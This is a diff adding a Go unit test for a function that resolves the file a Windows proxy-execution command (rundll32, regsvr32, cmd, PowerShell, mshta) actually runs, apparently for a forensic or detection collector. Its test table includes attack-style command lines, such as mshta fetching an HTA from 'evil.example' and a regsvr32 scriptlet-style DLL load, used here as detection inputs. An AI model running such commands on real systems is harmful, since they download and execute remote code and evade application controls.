@@ -0,0 +1,51 @@
+package collectors
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+)
+
+func TestProxyPayload(t *testing.T) {
+	mount := useTestVolume(t)
+
+	system32 := filepath.Join(mount, "Windows", "System32")
+	if err := os.MkdirAll(system32, 0o755); err != nil {
+		t.Fatalf("Failed to create directory: %v", err)
+	}
+	for _, name := range []string{"shell32.dll", "whoami.exe"} {
+		if err := os.WriteFile(filepath.Join(system32, name), nil, 0o644); err != nil {
+			t.Fatalf("Failed to write file: %v", err)
+		}
+	}
+
+	tests := []struct {
+		exe      string
+		args     string
+		expected string
+	}{
+		{`C:\Windows\System32\rundll32.exe`, `"C:\Program Files\App\app.dll",Start`, `C:\Program Files\App\app.dll`},
+		{`C:\Windows\System32\rundll32.exe`, `shell32.dll,Control_RunDLL desk.cpl`, `C:\Windows\System32\shell32.dll`},
+		{`C:\Windows\System32\regsvr32.exe`, `/s /n /i:user %ProgramData%\x.dll`, `C:\ProgramData\x.dll`},
+		{`C:\Windows\System32\cmd.exe`, `/C "C:\Scripts\logon.bat" quiet`, `C:\Scripts\logon.bat`},
+		{`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `-NoProfile -f C:\s.ps1`, `C:\s.ps1`},
+		{`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `-Command Get-Date`, ""},
+		{`C:\Windows\System32\svchost.exe`, `-k netsvcs`, ""},
+		{`C:\Program Files\App\app.exe`, `x.dll`, ""},
+		{`C:\Windows\System32\cmd.exe`, `/c whoami /all`, `C:\Windows\System32\whoami.exe`},
+		{`C:\Windows\System32\cmd.exe`, `/c missing`, ""},
+		{`C:\Windows\System32\mshta.exe`, `http://evil.example/x.hta`, ""},
+		{`C:\Windows\System32\mshta.exe`, `javascript:close()`, ""},
+		{`C:\Windows\System32\mshta.exe`, `C:\Apps\setup.hta`, `C:\Apps\setup.hta`},
+	}
+
+	for _, test := range tests {
+		payload := proxyPayload(test.exe, test.args)
+		switch {
+		case payload == nil && test.expected != "":
+			t.Errorf("proxyPayload(%q, %q) = nil, expected %q", test.exe, test.args, test.expected)
+		case payload != nil && payload.Path != test.expected:
+			t.Errorf("proxyPayload(%q, %q) = %q, expected %q", test.exe, test.args, payload.Path, test.expected)
+		}
+	}
+}